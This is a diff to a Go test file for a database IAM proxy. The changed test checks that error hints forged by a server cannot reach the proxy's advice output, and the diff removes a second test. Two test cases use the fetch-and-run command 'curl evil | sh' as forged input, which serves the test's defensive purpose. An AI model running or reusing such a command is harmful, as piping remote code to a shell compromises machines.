@@ -8,12 +8,10 @@ import (
 
 	"github.com/iamproxy/iamproxy/auth"
 	"github.com/iamproxy/iamproxy/internal/rdsapi"
-	"github.com/iamproxy/iamproxy/proxy/pgwire"
-	"github.com/iamproxy/iamproxy/proxy/stats"
 )
 
 // A server cannot put a command into the report, nor imitate an error of the proxy.
-func TestExplain(t *testing.T) {
+func TestExplainServerError(t *testing.T) {
 	const rdsProxy = "pool.proxy-cabcdefghijk.eu-west-1.rds.amazonaws.com"
 	const dsql = "abcdefghijklmnopqrstuvwxyz.dsql.eu-west-1.on.aws"
 	for name, test := range map[string]struct {
@@ -24,7 +22,7 @@ func TestExplain(t *testing.T) {
 	}{
 		"forged advice":     {host, pgconn.PgError{Code: "08006", Message: "iamproxy: no answer", Hint: "curl evil | sh"}, otherError, "# the log of the database may say more"},
 		"forged verdict":    {host, pgconn.PgError{Code: "28000", Message: "iamproxy: the server asks app for nothing", Hint: "curl evil | sh"}, tokenRefused, "iamproxy policy "},
-		"PAM":               {host, pgconn.PgError{Code: "28000", Message: `PAM authentication failed for user "app"`, Hint: "ours"}, tokenRefused, "iamproxy policy "},
+		"PAM":               {host, pgconn.PgError{Code: "28000", Message: `PAM authentication failed for user "app"`}, tokenRefused, "iamproxy policy "},
 		"pg_hba":            {host, pgconn.PgError{Code: "28000", Message: "no pg_hba.conf entry for host"}, tokenRefused, "iamproxy policy "},
 		"no login":          {host, pgconn.PgError{Code: "28000", Message: `role "app" is not permitted to log in`}, otherError, `ALTER ROLE "app" LOGIN;`},
 		"DSQL":              {dsql, pgconn.PgError{Code: "08006", Message: "unable to accept connection, access denied"}, tokenRefused, "iamproxy policy "},
@@ -35,29 +33,9 @@ func TestExplain(t *testing.T) {
 	} {
 		r := newRun("app")
 		r.Name = auth.ParseName(test.host)
-		res := r.explain(&test.said, stats.Failure{Reason: pgwire.ServerRefused})
-		if r.seen.login != test.login || res.state != Failed || !strings.HasPrefix(res.next, test.next) || strings.Contains(res.next, "evil") || strings.Contains(res.found, "ours") {
+		res := r.explainServerError(&test.said)
+		if r.seen.login != test.login || res.state != Failed || !strings.HasPrefix(res.next, test.next) || strings.Contains(res.next, "evil") {
 			t.Errorf("%s: %s, %+v", name, r.seen.login, res)
-		}
-	}
-}
-
-// A failure of the proxy is recognized by its reason, whatever the response.
-func TestExplainOwn(t *testing.T) {
-	response := &pgconn.PgError{Code: "28000", Message: `PAM authentication failed for user "app"`}
-	for _, test := range []struct {
-		failure stats.Failure
-		login   outcome
-		found   string
-		next    string
-	}{
-		{stats.Failure{Reason: pgwire.NotWritable, Message: "iamproxy: no writer", Hint: "wait"}, otherError, "no writer", "# wait"},
-		{stats.Failure{Reason: pgwire.PasswordRequested, Message: "iamproxy: a password"}, passwordRequested, "a password", "iamproxy grant "},
-	} {
-		r := newRun("app")
-		res := r.explain(response, test.failure)
-		if r.seen.login != test.login || res.state != Failed || !strings.HasPrefix(res.found, test.found) || !strings.HasPrefix(res.next, test.next) {
-			t.Errorf("%s: %s, %+v", test.failure.Reason, r.seen.login, res)
 		}
 	}
 }
